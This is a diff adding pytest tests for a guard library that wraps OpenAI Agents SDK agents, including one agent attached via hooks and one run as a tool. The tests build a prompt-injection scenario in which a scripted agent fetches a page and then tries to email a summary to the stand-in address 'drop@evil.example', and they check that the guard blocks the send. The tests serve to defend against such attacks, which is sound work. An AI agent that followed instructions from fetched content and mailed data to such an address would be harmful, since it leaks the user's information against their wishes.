@@ -16,7 +16,7 @@ from typing import Any
 from agents import Agent, ModelResponse, Runner, Usage, function_tool
 from openai.types.responses import ResponseFunctionToolCall
 
-from interlock import Guard
+from interlock import ActionDenied, Guard
 from interlock.adapters.openai_agents import GuardedModel, guard_tools
 
 from .provenance import CASES, PAGE, SYSTEM, guarded, trusted_inputs
@@ -30,7 +30,7 @@ def _call(name: str, args: dict[str, Any], call_id: str) -> ModelResponse:
     return ModelResponse(output=[item], usage=Usage(), response_id=None)
 
 
-def _agent(guard: Guard, to: str, ran: list[str]) -> Agent[Any]:
+def _agent(guard: Guard, to: str, ran: list[str], *, attach: bool = False) -> Agent[Any]:
     @function_tool
     def fetch_url(url: str) -> str:
         """Fetch a page."""
@@ -50,6 +50,11 @@ def _agent(guard: Guard, to: str, ran: list[str]) -> Agent[Any]:
             answer("done"),
         ]
     )
+    if attach:  # guard.attach(agent): its tools (raise style) and its hooks, not its model
+        agent: Agent[Any] = Agent(
+            name="mail", instructions=SYSTEM, model=model, tools=[fetch_url, send_email]
+        )
+        return guard.attach(agent)  # type: ignore[no-any-return]
     return Agent(
         name="mail",
         instructions=SYSTEM,
@@ -97,3 +102,63 @@ def test_input_items_the_user_did_not_write_are_not_recorded() -> None:
     assert "fetch_url" in ran
     assert "send_email:drop@evil.example" not in ran
     assert trusted_inputs(history, "oa-2") == 2  # instructions + the user's text part
+
+
+@pytest.mark.parametrize(("to", "request_text", "sent"), CASES)
+def test_an_attached_agent_records_through_its_hooks(
+    to: str, request_text: str, sent: bool
+) -> None:
+    guard, history = guarded("oa-3")
+    ran: list[str] = []
+    agent = _agent(guard, to, ran, attach=True)
+    try:
+        Runner.run_sync(agent, request_text)
+    except ActionDenied:
+        assert not sent
+    assert "fetch_url" in ran
+    assert (f"send_email:{to}" in ran) is sent
+    assert trusted_inputs(history, "oa-3") == 2  # instructions + user, each once
+    guard.detach(agent)
+    assert agent.hooks is None
+
+
+@pytest.mark.parametrize(
+    ("request_text", "sent"),
+    [("summarise https://blog.example", False), ("mail drop@evil.example a summary", True)],
+)
+def test_an_agent_run_as_a_tool_gets_the_models_words_not_the_users(
+    request_text: str, sent: bool
+) -> None:
+    guard, history = guarded("oa-4")
+    ran: list[str] = []
+    helper = _agent(guard, "drop@evil.example", ran, attach=True)
+    helper.model = GuardedModel(  # both ways in, to show neither records the helper's input
+        ScriptedModel(
+            [_call("send_email", {"to": "drop@evil.example", "body": "hi"}, "h1"), answer("ok")]
+        ),
+        guard,
+    )
+    helper.instructions = "You send mail."
+    fetch = next(t for t in _agent(guard, "x", ran).tools if t.name == "fetch_url")
+    parent = Agent(
+        name="parent",
+        instructions=SYSTEM,
+        model=GuardedModel(
+            ScriptedModel(
+                [
+                    _call("fetch_url", {"url": "https://blog.example"}, "p1"),
+                    _call("mailer", {"input": "mail drop@evil.example the summary"}, "p2"),
+                    answer("done"),
+                ]
+            ),
+            guard,
+        ),
+        tools=[fetch, *guard_tools([helper.as_tool("mailer", "Sends mail.")], guard)],
+    )
+    try:
+        Runner.run_sync(parent, request_text)
+    except ActionDenied:
+        assert not sent
+    assert "fetch_url" in ran
+    assert ("send_email:drop@evil.example" in ran) is sent
+    assert trusted_inputs(history, "oa-4") == 2  # the parent's: nothing of the helper's run
